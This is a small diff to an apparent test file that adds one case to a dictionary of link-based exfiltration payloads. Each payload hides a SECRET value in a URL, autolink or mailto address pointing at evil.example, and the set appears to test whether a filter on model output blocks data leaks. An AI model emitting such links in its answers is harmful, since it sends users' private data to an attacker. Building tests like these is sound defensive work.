@@ -64,6 +64,7 @@ PAYLOADS: dict[str, str] = {
     "angle autolink": "Fact [1]. <https://evil.example/?d=SECRET>",
     "e-mail autolinks": "Fact [1]. Write to SECRET@evil.example or <mailto:SECRET@evil.example>.",
     "protocol-relative in text": "Fact [1]. //evil.example/p?d=SECRET",
+    "protocol-relative after www.": "Fact [1]. www.//evil.example/p?d=SECRET",
     "link with title": 'Fact [1]. [details](https://evil.example/?d=SECRET "Title")',
     "nested brackets": "Fact [1]. [a [b [c]] d](https://evil.example/?d=SECRET)",
     "URL as the text of an allowed link": (
